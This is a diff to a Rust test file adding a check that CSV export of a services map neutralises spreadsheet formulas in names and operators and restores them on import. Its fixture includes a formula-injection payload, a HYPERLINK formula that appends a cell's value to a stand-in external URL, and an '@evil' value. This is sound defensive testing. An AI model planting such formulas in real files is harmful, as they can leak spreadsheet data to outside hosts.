@@ -187,3 +187,23 @@ fn geojson_that_is_not_a_feature_collection_is_rejected_with_the_reason() {
         "{err:?}"
     );
 }
+
+#[test]
+fn spreadsheet_formulas_in_names_are_neutralised_on_export_and_restored_on_import() {
+    let mut d = shipped();
+    d.records[0].name =
+        karabakh_services_map::model::Localized::en("=HYPERLINK(\"http://x.example\"&A1)");
+    d.records[1].operator = Some("@evil".into());
+    let csv = karabakh_services_map::convert::Format::Csv.export(&d);
+    assert!(
+        csv.contains("\"'=HYPERLINK(\"\"http://x.example\"\"&A1)\""),
+        "{}",
+        &csv[..400]
+    );
+    assert!(csv.contains(",'@evil,"));
+    assert!(!csv.contains(",=HYPERLINK") && !csv.contains(",@evil"));
+    let metadata = write::metadata(&d);
+    let again = csv_table::import("data.csv", &csv, Some(&metadata)).unwrap();
+    assert_eq!(again.records[0].name, d.records[0].name);
+    assert_eq!(again.records[1].operator, d.records[1].operator);
+}
